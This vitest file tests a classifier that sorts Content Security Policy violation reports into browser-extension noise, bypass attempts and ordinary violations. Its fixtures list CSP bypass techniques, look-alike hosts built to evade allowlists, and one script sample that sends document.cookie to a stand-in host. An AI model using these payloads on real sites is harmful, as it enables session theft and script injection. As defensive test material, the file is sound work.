import { expect, test } from 'vitest';
import { judged } from '../../../../test/csp-samples/sample-reports.ts';

type Case = [
  directive: string,
  blocked: string,
  more: Record<string, unknown>,
  classification: string,
  reason: string,
];

const nonce = { 'original-policy': "script-src 'nonce-x' 'strict-dynamic'" };
const sample = (text: string) => ({ 'script-sample': text, 'source-file': 'https://app.parlance.example/' });

test.each<Case>([
  ['script-src', 'chrome-extension', {}, 'noise', 'blocked-software-scheme'],
  ['frame-src', 'webviewprogressproxy://', {}, 'noise', 'blocked-software-scheme'],
  ['script-src', 'about:blank', {}, 'noise', 'blocked-about'],
  ['img-src', 'file', {}, 'noise', 'blocked-local-file'],
  ['script-src', 'https://gc.kis.v2.scr.kaspersky-labs.com/foo', {}, 'noise', 'blocked-injector-host'],
  ['connect-src', 'https://127.0.0.1:14733/', {}, 'noise', 'blocked-loopback'],
  ['script-src', 'self', sample("window.klTabId_kis = 'x'"), 'noise', 'injected-sample'],
  ['script-src', 'eval', { 'source-file': 'moz-extension' }, 'noise', 'source-software-scheme'],
  ['script-src', 'eval', { 'source-file': 'file:///C:/tool.js' }, 'noise', 'source-local-file'],
  [
    'img-src',
    'https://p.example/',
    { 'source-file': 'https://translate.googleapis.com/m.js' },
    'noise',
    'source-injector-host',
  ],
  ['img-src', 'https://p.example/', { 'source-file': 'http://localhost:9/m.js' }, 'noise', 'source-loopback'],
  [
    'img-src',
    'https://p.example/',
    { 'document-uri': 'chrome-extension://x/' },
    'noise',
    'document-software-scheme',
  ],
  [
    'script-src',
    'eval',
    { 'source-file': 'https://coupons.example/x.js', 'original-policy': "script-src 'self'" },
    'noise',
    'source-outside-policy',
  ],
])('K10 %s blocking %s %j is %s: %s', (...[directive, blocked, more, classification, reason]) => {
  const report = judged({ 'violated-directive': directive, 'blocked-uri': blocked, ...more });
  expect(report).toMatchObject({ classification, reason, riskLevel: 'low', bypassAttempt: false });
});

test.each<Case>([
  ['base-uri', 'https://evil.example/', {}, 'bypass', 'base-uri'],
  ['object-src', 'data', {}, 'bypass', 'object-src'],
  ['script-src', 'data', {}, 'bypass', 'script-from-data'],
  ['script-src', 'blob', {}, 'bypass', 'script-from-blob'],
  ['script-src', 'https://a.example/?callback=alert(1)', {}, 'bypass', 'callback-with-code'],
  ['script-src', 'https://api.github.com/users/x?callback=pwn', {}, 'bypass', 'callback-host'],
  ['script-src', 'https://cdn.jsdelivr.net/npm/x', {}, 'bypass', 'gadget-host'],
  ['script-src', 'https://a.example/angular.js', {}, 'bypass', 'gadget-library'],
  ['script-src', 'inline', nonce, 'bypass', 'inline-under-nonce'],
  ['script-src', 'javascript:alert(1)', {}, 'bypass', 'javascript-address'],
  ['require-trusted-types-for', 'trusted-types-sink', {}, 'bypass', 'trusted-types-sink'],
  ['trusted-types', 'trusted-types-policy', {}, 'bypass', 'trusted-types-policy'],
  ['frame-ancestors', 'https://evil.example/', {}, 'bypass', 'frame-ancestors'],
])('K20 %s blocking %s %j is %s: %s', (...[directive, blocked, more, classification, reason]) => {
  const report = judged({ 'violated-directive': directive, 'blocked-uri': blocked, ...more });
  expect(report).toMatchObject({ classification, reason, bypassAttempt: true });
});

test.each<Case>([
  ['img-src', 'https://app.parlance.example/a.png', {}, 'own', 'own-host'],
  ['img-src', 'https://static.app.parlance.example/a.png', {}, 'own', 'own-host'],
  ['base-uri', 'https://app.parlance.example/', {}, 'own', 'own-host'],
  ['script-src', 'https://app.parlance.example/angular.js', {}, 'own', 'own-host'],
  ['img-src', 'https://parlance.example/a.png', {}, 'third-party', 'foreign-host'],
  ['img-src', 'https://cdn.jsdelivr.net/a.png', {}, 'third-party', 'foreign-host'],
  [
    'script-src',
    'https://maps.googleapis.com/maps/api/js?callback=initMap',
    {},
    'third-party',
    'foreign-host',
  ],
  ['script-src', 'inline', {}, 'inline', 'inline-element'],
  ['script-src-attr', 'inline', {}, 'inline', 'inline-attribute'],
  ['style-src', 'inline', nonce, 'inline', 'inline-element'],
  ['script-src', 'eval', {}, 'eval', 'eval'],
  ['script-src', 'wasm-eval', {}, 'eval', 'wasm-eval'],
  ['img-src', 'data', {}, 'data', 'data-content'],
  ['worker-src', 'blob', {}, 'data', 'blob-content'],
  ['frame-src', 'mailto:a@b.example', {}, 'unclassified', 'app-link'],
  ['img-src', '', {}, 'unclassified', 'nothing-to-go-by'],
])('%s blocking %s %j is %s: %s', (...[directive, blocked, more, classification, reason]) => {
  const report = judged({ 'violated-directive': directive, 'blocked-uri': blocked, ...more });
  expect(report).toMatchObject({ classification, reason, bypassAttempt: false });
});

test.each([
  ['a longer host', 'https://kaspersky-labs.com.evil.example/x.js'],
  ['a host that ends alike', 'https://evilkaspersky-labs.com/x.js'],
  ['a user name', 'https://kaspersky-labs.com@evil.example/x.js'],
  ['a fragment', 'https://evil.example/#kaspersky-labs.com'],
  ['a path', 'https://evil.example/chrome-extension://x/y.js'],
  ['a scheme as host', 'https://chrome-extension/x.js'],
  ['a loopback name as prefix', 'https://127.0.0.1.evil.example/x.js'],
  ['a Cyrillic letter', 'https://grаmmarly.com/x.js'],
])('K10 a look-alike of noise is not excused: %s', (_name, blocked) => {
  const report = judged({ 'violated-directive': 'script-src', 'blocked-uri': blocked });
  expect(report).toMatchObject({ classification: 'third-party', riskLevel: 'high' });
});

test('K20 a mark of known software excuses no payload, and a known host no base', () => {
  const inline = { 'violated-directive': 'script-src', 'blocked-uri': 'inline', ...nonce };
  expect(
    judged({ ...inline, ...sample('/*grammarly*/fetch("//e.example?"+document.cookie)') }).bypassAttempt,
  ).toBe(true);
  expect(
    judged({ 'violated-directive': 'base-uri', 'blocked-uri': 'https://grammarly.com/' }).bypassAttempt,
  ).toBe(true);
});

test('on a development host the own machine is no noise', () => {
  const members = {
    'document-uri': 'http://localhost:3000/',
    'violated-directive': 'connect-src',
    'blocked-uri': 'http://localhost:4000/api',
  };
  expect(judged(members, 'localhost').classification).toBe('own');
});

test('a policy that only reports, or is built on nonces, keeps no script out', () => {
  const eval_ = {
    'violated-directive': 'script-src',
    'blocked-uri': 'eval',
    'source-file': 'https://coupons.example/x.js',
  };
  expect(
    judged({ ...eval_, 'original-policy': "script-src 'self'", disposition: 'report' }).classification,
  ).toBe('eval');
  expect(judged({ ...eval_, ...nonce }).classification).toBe('eval');
  expect(judged({ ...eval_, 'original-policy': 'script-src https://*.example' }).classification).toBe('eval');
});
